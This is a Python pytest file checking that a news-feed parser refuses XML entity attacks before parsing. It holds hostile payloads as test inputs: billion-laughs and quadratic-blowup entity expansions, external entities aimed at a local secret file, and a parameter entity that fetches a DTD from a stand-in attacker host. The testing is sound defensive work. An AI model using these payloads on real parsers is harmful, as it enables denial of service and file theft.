"""XML entity attacks are refused before any parser (lxml or the feedparser fallback) runs."""

from __future__ import annotations

from datetime import datetime, timezone
from pathlib import Path
from unittest import mock

import pytest

from newswire.errors import ParseError
from newswire.parse import parse_feed
from newswire.parse import document

SEEN = datetime(2025, 9, 18, tzinfo=timezone.utc)
REFUSED = "parse: XML entity declarations are refused"


def _rss(doctype: str, title: str = "T") -> bytes:
    return (f'<?xml version="1.0"?>\n{doctype}\n<rss version="2.0"><channel><title>{title}</title>'
            f'<item><title>{title}</title><link>http://example.com/a</link></item></channel></rss>').encode()


def _refused(body: bytes) -> ParseError:
    with mock.patch.object(document.xmlfeed, "parse_xml") as lxml_parse, \
            mock.patch.object(document, "read_with_feedparser") as fallback:
        with pytest.raises(ParseError) as info:
            parse_feed(body, url="http://example.com/feed", seen_at=SEEN)
    assert lxml_parse.call_count == 0 and fallback.call_count == 0  # refused before parsing
    assert str(info.value).startswith(REFUSED)
    return info.value


def test_billion_laughs_is_refused() -> None:
    decls = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    _refused(_rss(f"<!DOCTYPE rss [{decls}]>", "&lol9;"))


def test_quadratic_blowup_is_refused() -> None:
    _refused(_rss(f'<!DOCTYPE rss [<!ENTITY a "{"x" * 50_000}">]>', "&a;" * 2000))


def test_external_system_entity_is_refused_and_file_never_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    body = _rss(f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>', "&xxe;")
    error = _refused(body)
    assert "TOP-SECRET-CONTENT" not in str(error)


def test_external_entity_refused_without_mocks(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    body = _rss(f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>', "&xxe;")
    with pytest.raises(ParseError, match=REFUSED):
        parse_feed(body, url="http://example.com/feed", seen_at=SEEN)


def test_parameter_entity_is_refused() -> None:
    _refused(_rss('<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>'))


def test_lowercase_or_spaced_entity_declaration_is_refused() -> None:
    _refused(_rss('<!DOCTYPE rss [<! entity x "y">]>', "&x;"))


def test_entity_declaration_after_a_comment_is_still_refused() -> None:
    _refused(_rss('<!-- <rss> --><!DOCTYPE rss [<!ENTITY x "y">]>', "&x;"))


def test_external_dtd_is_not_loaded(tmp_path: Path) -> None:
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY leak "DTD-WAS-LOADED">')
    body = _rss(f'<!DOCTYPE rss SYSTEM "{dtd.as_uri()}">', "Hello &leak;")
    feed = parse_feed(body, url="http://example.com/feed", seen_at=SEEN)
    assert "DTD-WAS-LOADED" not in repr(feed)


def test_netscape_rss091_doctype_parses_without_network() -> None:
    doctype = ('<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
               '"http://my.netscape.com/publish/formats/rss-0.91.dtd">')
    body = _rss(doctype, "Ninety-one").replace(b'version="2.0"', b'version="0.91"')
    with mock.patch("urllib.request.urlopen", side_effect=AssertionError("network used")), \
            mock.patch("socket.create_connection", side_effect=AssertionError("network used")):
        feed = parse_feed(body, url="http://example.com/feed", seen_at=SEEN)
    assert feed.format == "rss09x"
    assert feed.title == "Ninety-one" and feed.entries[0].title == "Ninety-one"


def test_entity_text_inside_cdata_is_harmless_and_allowed() -> None:
    body = (b'<rss version="2.0"><channel><title>T</title><item><title>X</title>'
            b'<description><![CDATA[<p>How &lt;!ENTITY&gt; works: <code><!ENTITY a "b"></code></p>]]></description>'
            b'</item></channel></rss>')
    feed = parse_feed(body, url="http://example.com/feed", seen_at=SEEN)
    assert "ENTITY" in feed.entries[0].text
